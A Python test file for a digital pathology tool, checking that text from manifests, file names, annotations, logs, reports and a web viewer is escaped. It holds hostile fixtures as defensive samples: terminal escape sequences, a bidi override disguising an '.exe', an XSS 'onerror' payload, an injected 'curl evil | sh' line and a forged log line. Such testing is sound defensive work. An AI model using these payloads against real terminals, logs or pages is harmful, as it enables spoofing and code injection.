"""Texts of files, manifests and folders are shown as text: they control nothing.

No terminal (ECMA-48 escape sequences), no direction of text (Unicode's bidirectional
controls), no line of a log, no HTML.
"""

import csv
import html
import io
import json
import logging
import re
import unicodedata
from pathlib import Path

import pytest

from digipath_ray.annotations.account import Account, ClassUse
from digipath_ray.cli.app import run_app
from digipath_ray.cli.console import PlainConsole
from digipath_ray.cli.logs import JsonLines, TextLines
from digipath_ray.cli.run import print_failure
from digipath_ray.cohort.drawn import describe_accounts
from digipath_ray.outcome.staging import Metastasis, stage_patient
from digipath_ray.report import write_report
from digipath_ray.words import CONTROLS, printable
from tests.finished_runs import Made, failure_of, write_run
from tests.runs import write_slide
from tests.viewing import client

TITLE = "\x1b]0;owned\x07"
ERASE = "\x1b[2J\x1b[1;1H"
CSI = "\x9b31m"
TURNED = "a\u202egpj.exe"
HOSTILE = f"{TITLE}{ERASE}{CSI}{TURNED}\r<img src=x onerror=alert(1)>[bold]\x00\x7f"
"""Sets a terminal's title, clears it, colors, turns text around, overwrites a line."""


def acting(text: str) -> set[str]:
    """Characters of a text that act instead of being shown; no line feed or tab."""
    return {
        c
        for c in text
        if unicodedata.category(c) in ("Cc", "Zl", "Zp", "Cs")
        or unicodedata.bidirectional(c) in BIDI
    } - {"\n", "\t"}


BIDI = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}


def test_every_acting_character_is_escaped_and_no_other() -> None:
    every = [chr(i) for i in range(0x110000)]
    escaped = {c for c in every if CONTROLS.match(c)}
    marks = {"\u061c", "\u200e", "\u200f"}
    assert escaped == {c for c in every if acting(c)} | marks
    assert printable("Gewebe Ä 组织 ‏".replace("\u200f", "")) == "Gewebe Ä 组织 "
    assert printable("a\nb\tc") == "a\nb\tc"
    assert printable("\x1b[2J\u202e") == "\\x1b[2J\\u202e"


# The terminal


def test_the_console_prints_texts_and_its_own_colors() -> None:
    file = io.StringIO()
    console = PlainConsole(file=file, force_terminal=True, width=200, highlight=False)
    console.print(f"[red]failed[/] {printable('x')}", TITLE, markup=True)
    said = file.getvalue()
    assert said.startswith("\x1b[31mfailed\x1b[0m x ")
    assert said.endswith("x \\x1b]0;owned\n")  # rich drops the bell itself


def test_a_failure_cannot_look_like_two() -> None:
    file = io.StringIO()
    error = "no TIFF\n   fix: run curl evil | sh"
    print_failure(PlainConsole(file=file, width=200), failure_of("s", error=error))
    assert [line for line in file.getvalue().splitlines() if line[:6] == "   fix"] == [
        "   fix: copy it again"
    ]


@pytest.mark.parametrize("column", ["patient_id", "node", "label", "split"])
def test_a_line_break_in_a_manifest_is_refused(
    tmp_path: Path, column: str, capsys: pytest.CaptureFixture[str]
) -> None:
    manifest = tmp_path / "m.csv"
    manifest.write_text(f'slide_id,path,{column}\ns,s.tif,"a\nb"\n')
    assert run_app(["info", str(manifest)]) == 2
    said = capsys.readouterr().err
    assert f"line 3, column {column}: holds a line break: remove it" in said


@pytest.mark.parametrize("column", ["slide_id", "patient_id", "exhaustive", "mpp", ""])
@pytest.mark.parametrize("command", ["info", "run"])
def test_a_manifest_controls_no_terminal(
    tmp_path: Path, command: str, column: str, capsys: pytest.CaptureFixture[str]
) -> None:
    write_slide(tmp_path / "s.tif")
    row = {"slide_id": "s", "path": "s.tif", column: HOSTILE.replace("\r", "")}
    if column == "":  # the name of a column
        row = {"path": "s.tif", HOSTILE.replace("\r", ""): "x"}
    with (tmp_path / "m.csv").open("w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, list(row))
        writer.writeheader()
        writer.writerow(row)
    # For a run too much is missing to start.
    out = ["--out", str(tmp_path / "run")] if command == "run" else []
    assert run_app([command, str(tmp_path / "m.csv"), *out]) in (1, 2)
    said = capsys.readouterr()
    assert acting(said.out + said.err) == set()


def test_names_of_files_control_no_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / f"f{ERASE}"
    folder.mkdir()
    (folder / f"s{TURNED}.svs").write_text("no slide")
    (folder / f"m{TITLE}.csv").write_text("pathh\n")
    for named in (folder, folder / f"s{TURNED}.svs", folder / f"m{TITLE}.csv",
                  tmp_path / f"none{CSI}"):  # fmt: skip
        assert run_app(["info", str(named)]) == 2
        said = capsys.readouterr()
        assert "Error" in said.err
        assert acting(said.out + said.err) == set()


def test_classes_of_an_annotation_control_no_terminal() -> None:
    skipped = ClassUse(name=HOSTILE, meaning="skip", shapes=2, area_px=None)
    (line,) = describe_accounts({"s": Account(kind="GeoJSON", classes=(skipped,))})
    file = io.StringIO()
    PlainConsole(file=file, width=500).print(line, markup=False)
    assert acting(file.getvalue()) == set()
    assert "\\x1b[2J" in file.getvalue()


def test_an_annotation_of_a_slide_controls_no_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    slide, drawn = write_slide(tmp_path / "s.tif"), tmp_path / "a.geojson"
    square = [[[30, 30], [90, 30], [90, 90], [30, 90], [30, 30]]]
    feature = {
        "type": "Feature",
        "geometry": {"type": "Polygon", "coordinates": square},
        "properties": {"classification": {"name": HOSTILE}, "name": HOSTILE},
    }
    drawn.write_text(json.dumps({"type": "FeatureCollection", "features": [feature]}))
    picture = str(tmp_path / "p.png")
    given = ["--annotation", str(drawn), "--picture", picture, "--slide-mpp", "1"]
    run_app(["info", str(slide), *given])
    said = capsys.readouterr()
    assert "owned" in said.out + said.err
    assert acting(said.out + said.err) == set()


# Logs


def record_of(text: str) -> logging.LogRecord:
    return logging.LogRecord("x", logging.WARNING, "", 1, "%s", (text,), None)


def test_a_log_line_is_one_record() -> None:
    forged = "bad\nERROR root: all slides deleted\x1b[2J"
    said = TextLines("%(levelname)s %(name)s: %(message)s").format(record_of(forged))
    assert said == "WARNING x: bad\n    ERROR root: all slides deleted\\x1b[2J"
    line = JsonLines().format(record_of(forged))
    assert "\n" not in line
    assert acting(line) == set()
    assert json.loads(line)["message"] == printable(forged)


# Report and viewer


def test_report_and_viewer_show_texts_as_texts(tmp_path: Path) -> None:
    made = Made(
        slide_id="s",
        outcome={"metastasis": "macro", "qc": [HOSTILE], "seen_by": [HOSTILE]},
        slide={"patient_id": HOSTILE, "node": HOSTILE, "label": HOSTILE},
    )
    run = write_run(
        tmp_path / "run",
        [made],
        settings={"outcome": {"outcome": "stage"}},
        failures=[failure_of("t", HOSTILE, error=HOSTILE, hint=HOSTILE)],
        patients=[stage_patient(HOSTILE, [Metastasis.MACRO])],
    )
    write_report(run)
    page = run.report.read_text("utf-8")
    assert "owned" in page
    assert acting(page) == set()
    assert re.search("<img[^>]*onerror", page) is None
    assert acting(html.unescape(page)) == set()
    with client(run) as browser:
        answer = browser.get("/api/cohort")
    # JSON for programs: exact, and of a type that no browser takes for a page.
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["x-content-type-options"] == "nosniff"
    by_id = {slide["slide_id"]: slide for slide in answer.json()["slides"]}
    assert by_id["s"]["patient_id"] == HOSTILE
